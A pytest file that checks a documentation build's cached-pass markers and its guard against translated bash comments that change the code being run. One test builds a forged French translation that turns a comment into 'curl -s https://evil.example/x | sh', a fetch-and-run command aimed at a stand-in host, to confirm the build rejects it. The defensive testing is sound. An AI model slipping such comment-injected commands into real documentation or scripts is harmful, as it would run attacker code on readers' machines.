"""Checks a development build remembers (hooks/passed.py): a pass is remembered only for its
exact input and code, a publication build trusts no marker, and a forged marker cannot make
a publication build show code whose comments changed what bash runs."""

from __future__ import annotations

import shutil

import markdown
import pytest

import hooks.comments
import hooks.data
import hooks.passed as passed
from hooks.errors import RenderError
from tests.conftest import REPO_ROOT


@pytest.fixture
def markers(tmp_path, monkeypatch):
    monkeypatch.setattr(passed, "PASSED_DIR", tmp_path / "passed")
    yield tmp_path / "passed"
    hooks.data.trust_markers(True)


def highlighted(code: str, language: str) -> str:
    return markdown.markdown(f"```{language}\n{code}```\n", extensions=["pymdownx.highlight", "pymdownx.superfences"],
                             extension_configs={"pymdownx.highlight": {"pygments_lang_class": True}})


def test_a_pass_is_remembered_for_its_exact_parts_only(markers):
    passed.remember("kind", "ab", "c")
    assert passed.passed_before("kind", "ab", "c")
    assert not passed.passed_before("kind", "a", "bc")  # parts are not concatenated
    assert not passed.passed_before("other kind", "ab", "c")
    assert not passed.passed_before("kind", "ab", "c ")


def test_a_publication_build_trusts_no_marker(markers):
    passed.remember("kind", "x")
    hooks.data.trust_markers(False)
    assert not passed.passed_before("kind", "x")


def test_an_edit_of_the_checking_code_forgets_every_pass(markers, tmp_path, monkeypatch):
    code = tmp_path / "verify"
    shutil.copytree(REPO_ROOT / "verify", code, ignore=shutil.ignore_patterns("__pycache__"))
    monkeypatch.setattr(passed, "CODE_DIRS", (code,))
    passed.fingerprint.cache_clear()
    passed.remember("kind", "x")
    (code / "readers.py").write_text((code / "readers.py").read_text(encoding="utf-8") + "\n# edited\n", encoding="utf-8")
    passed.fingerprint.cache_clear()
    assert not passed.passed_before("kind", "x")
    passed.fingerprint.cache_clear()


def test_a_translated_block_is_read_once_by_a_development_build(markers, monkeypatch):
    html = highlighted("nvidia-smi topo -m  # come sono collegate\n", "bash")
    catalogue = {"come sono collegate": "comment elles sont reliées"}
    first = hooks.comments.translate_comments(html, "fr", catalogue)
    monkeypatch.setattr(hooks.comments, "check_same_code", lambda *a: pytest.fail("read again"))
    assert hooks.comments.translate_comments(html, "fr", catalogue) == first
    hooks.data.trust_markers(False)
    with pytest.raises(pytest.fail.Exception, match="read again"):
        hooks.comments.translate_comments(html, "fr", catalogue)


def test_a_forged_marker_does_not_pass_a_publication_build(markers):
    """The marker a development build would find for a translation that makes bash run
    another command, made by hand: the publication build reads the block and refuses it."""
    html = highlighted("GPUS=#schede; nvidia-smi -L\n", "bash")
    forged = {"schede; nvidia-smi -L": "cartes; curl -s https://evil.example/x | sh"}
    with pytest.raises(RenderError, match="change the code as bash reads it"):
        hooks.comments.translate_comments(html, "fr", forged)
    span = '<span class="c1">#schede; nvidia-smi -L</span>'
    assert span in html
    translated = html.replace(span, '<span class="c1">#cartes; curl -s https://evil.example/x | sh</span>')
    div_class = "language-bash highlight"
    from selectolax.lexbor import LexborHTMLParser

    original = LexborHTMLParser(html).css_first("pre > code").text()
    now = LexborHTMLParser(translated).css_first("pre > code").text()
    assert LexborHTMLParser(html).css_first("div").attributes["class"] == div_class
    passed.remember(hooks.comments.SAME_CODE, div_class, original, now)
    assert hooks.comments.translate_comments(html, "fr", forged)  # a development build trusts the checkout
    hooks.data.trust_markers(False)
    with pytest.raises(RenderError, match="change the code as bash reads it"):
        hooks.comments.translate_comments(html, "fr", forged)


def test_a_publication_build_validates_again_what_a_development_build_parsed(markers, tmp_path):
    """hooks.data.load_yaml keeps parsed files in memory; a text that a forged schema marker
    let through a development build is validated when the same process publishes."""
    data = tmp_path / "data"
    data.mkdir()
    (data / "units.yaml").write_text((REPO_ROOT / "snippets" / "data" / "units.yaml").read_text(encoding="utf-8")
                                     + "\nunknown_key: 1\n", encoding="utf-8")
    text = (data / "units.yaml").read_text(encoding="utf-8")
    with pytest.raises(RenderError, match="unknown_key"):
        hooks.data.load_yaml("units", data)
    passed.remember("schema units", text)  # the marker a development build would leave for it
    try:
        assert hooks.data.load_yaml("units", data)["unknown_key"] == 1  # forged marker, development build
        hooks.data.trust_markers(False)
        with pytest.raises(RenderError, match="unknown_key"):
            hooks.data.load_yaml("units", data)
    finally:
        hooks.data.trust_markers(True)
